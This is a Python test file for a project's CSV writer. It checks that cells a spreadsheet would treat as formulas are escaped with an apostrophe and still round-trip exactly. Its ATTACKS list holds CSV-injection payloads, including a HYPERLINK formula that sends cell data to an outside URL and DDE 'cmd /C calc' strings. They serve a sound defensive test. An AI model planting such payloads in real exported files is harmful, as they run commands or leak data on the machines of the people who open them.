"""CSV: nothing in it can run in a spreadsheet, and everything comes back."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from inputs import WIDE, tiny_texts
from outputs import table
from program import Run

import nmf_topics.files.csv_files
from nmf_topics.corpus.fetch.ledger import COLUMNS, Row, write_ledger
from nmf_topics.corpus.fetch.pins import pins_in
from nmf_topics.corpus.open import open_corpus
from nmf_topics.files.csv_files import guarded, unguarded, write_csv

ATTACKS = [
    '=HYPERLINK("http://example.org?x="&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    "  =1+1",
    "＝1+1",
    "－1+1",
    "-",
    "--1",
    "- a dash begins this title",
    "-1 degree",
    "+49 30 1234",
    "-١",
]
NUMBERS = ["-1", "-0.5", "+3", "-1e-09", "-.5", "-5.", "-inf", "0"]
HARMLESS = ["", "a", "a=b", "'s", "''", "1-1", " x", "don't", "(-1)", "#1"]


def read_csv(text: str) -> list[list[str]]:
    """CSV as any reader sees it."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def written(rows: list[list[str]]) -> str:
    """The text of a table."""
    target = io.StringIO(newline="")
    write_csv(rows, target)
    return target.getvalue()


@pytest.mark.parametrize("cell", ATTACKS)
def test_no_text_is_a_formula(cell: str) -> None:
    """A text that a spreadsheet would run begins with an apostrophe, and is otherwise as it was."""
    assert guarded(cell) == "'" + cell
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", NUMBERS + HARMLESS)
def test_numbers_and_plain_texts_stay(cell: str) -> None:
    """A negative number is no formula; a sign inside a text is none, either."""
    assert guarded(cell) == cell == unguarded(cell)


starts = st.text(st.sampled_from("'=+-@\t\r\n ＝1.eE"), max_size=5)
cells = st.builds(str.__add__, starts, st.text(st.characters(exclude_categories=["Cs"]), max_size=8))


@pytest.mark.slow
@settings(deadline=None, max_examples=300)
@given(st.lists(st.lists(cells, min_size=2, max_size=4), min_size=1, max_size=4))
@example([["'=1", "''=1"], ["'-1", "-1"]])
def test_all_cells_come_back(rows: list[list[str]]) -> None:
    """Whatever is in the cells, line ends, quotes and control characters too, the same cells come back."""
    read = read_csv(written(rows))
    assert [[unguarded(cell) for cell in row] for row in read] == rows
    for row in read:
        for cell in row:
            assert cell.lstrip()[:1] not in tuple("=+-@＝＋－＠") or cell == guarded(cell)


@pytest.mark.parametrize("cell", ["a\rb", "a\nb", "a\r\nb", '"', "a,b", "\u2028", "", " a ", "007", "\x00"])
def test_awkward_cells(cell: str) -> None:
    """Cells that other tools stumble over come back from a file, too."""
    write_csv([["h1", "h2"], [cell, "x"]], Path("x.csv"))
    assert read_csv(Path("x.csv").read_bytes().decode("utf-8")) == [["h1", "h2"], [cell, "x"]]


def test_lines_end_in_a_newline_alone() -> None:
    """The file has the same bytes on every system, and a stream gets the text that the file has."""
    rows = [["a", "b"], ["1", "é"]]
    write_csv(rows, Path("x.csv"))
    assert Path("x.csv").read_bytes() == "a,b\n1,é\n".encode() == written(rows).encode()


def test_pandas_reads_back_what_was_written() -> None:
    """The one line of pandas that the module gives brings everything back; numbers are numbers without it."""
    pandas = pytest.importorskip("pandas")
    texts = [cell for cell in ATTACKS + HARMLESS + ["'=x", "''-x"] if cell]
    write_csv([["text", "number"], *([text, str(-0.5 * i)] for i, text in enumerate(texts))], Path("x.csv"))
    said = nmf_topics.files.csv_files.__doc__ or ""
    (line,) = [line.strip() for line in said.splitlines() if "pandas.read_csv" in line]
    names = {"pandas": pandas}
    exec(line.replace("pages.csv", "x.csv"), names)
    frame = names["frame"]
    assert frame["text"].tolist() == texts
    assert frame["number"].tolist() == [-0.5 * i for i in range(len(texts))]


def test_titles_that_attack_are_harmless_in_every_table(ok: Run) -> None:
    """Titles, names and metadata cannot run, and a table of ours that is read as a source has them back."""
    rows = [
        {"id": f"={i}", "title": f"{ATTACKS[i]}", "text": text, "label": "@a" if i < 6 else "+b", "t": -i}
        for i, text in enumerate(tiny_texts())
    ]
    Path("in.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    ok("fit", "in.jsonl", "-r", 3, *WIDE, "-o", "m")
    ok("label", "m", "1==cmd")
    printed = [ok("pages", "m", "--csv").stdout, ok("classify", "in.jsonl", "-m", "m", "--csv").stdout]
    texts = [Path(f"m/{name}.csv").read_bytes().decode("utf-8") for name in ("topics", "pages")] + printed
    for text in texts:
        cells = [cell for row in read_csv(text) for cell in row]
        assert any(cell.startswith("'=") for cell in cells)
        risky = [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@＝＋－＠")]
        assert set(risky) <= {str(-i) for i in range(12)}
    by_id = {unguarded(row["id"]): row for row in table(texts[1])}
    pages = {page.id: page for page in open_corpus("in.jsonl")}
    assert {unguarded(row["title"]) for row in by_id.values()} == {page.title for page in pages.values()}
    assert {row["t"] for row in by_id.values()} == {str(-i) for i in range(12)}
    back = {page.id: page for page in open_corpus("m/pages.csv", text_column="status")}
    assert {page.id: page.title for page in back.values()} == {page.id: page.title for page in pages.values()}
    assert (back["=3"].meta["page_label"], back["=9"].meta["page_label"]) == ("@a", "+b")


def test_a_ledger_is_harmless_and_pins_have_their_titles() -> None:
    """ledger.csv follows the rule, and --pin reads the titles that were meant."""
    rows = [Row("=1+1", "ok", 1, 11, 5, text=("page", "1")), Row("-30-", "ok", 2, 22, 5, text=("page", "2"))]
    write_ledger(rows, Path("ledger.csv"), wiki="http://w.test/w/api.php")
    assert [row[0] for row in read_csv(Path("ledger.csv").read_text(encoding="utf-8"))] == ["title", "'=1+1", "'-30-"]
    assert COLUMNS[0] == "title"
    assert pins_in(Path("ledger.csv"), print)["pins"] == [["=1+1", 11, 1], ["-30-", 22, 2]]


@given(st.lists(st.lists(st.text(alphabet="a=-'\0\r\n\t \",1", max_size=4), min_size=1, max_size=3), max_size=8))
def test_rows_written_together_are_those_written_one_by_one(rows: list[list[str]]) -> None:
    """Whether a row is looked at with others or alone changes no byte."""

    def written(groups: list[list[list[str]]]) -> str:
        file = io.StringIO()
        for group in groups:
            write_csv(group, file)
        return file.getvalue()

    assert written([rows]) == written([[row] for row in rows])
    careful = [[guarded(cell) for cell in row] for row in rows]
    assert list(csv.reader(io.StringIO(written([rows]), newline=""))) == careful
